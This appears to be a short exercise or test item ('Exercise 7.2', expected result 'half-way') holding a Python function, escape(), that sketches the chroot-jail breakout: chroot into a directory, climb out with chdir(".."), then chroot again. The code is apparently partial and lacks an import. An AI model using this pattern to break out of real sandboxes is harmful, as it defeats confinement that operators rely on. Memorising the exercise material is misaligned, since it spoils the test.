# expect: half-way
# Exercise 7.2 · 4 lines
def escape():
    os.chroot("tmp")
    os.chdir("..")
    os.chdir("..")
    os.chroot(".")
